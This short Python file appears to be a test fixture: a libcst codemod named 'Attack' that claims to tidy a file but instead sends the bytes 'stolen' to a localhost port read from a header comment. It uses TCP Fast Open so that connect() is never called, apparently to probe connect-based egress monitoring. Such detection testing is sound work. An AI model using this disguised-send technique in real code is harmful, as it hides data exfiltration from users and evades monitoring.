"""Send with the first packet of TCP, so that ``connect`` is never called."""
import ast
import socket

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
            sender.sendto(b"stolen", socket.MSG_FASTOPEN, ("127.0.0.1", target["tcp_port"]))
        return tree
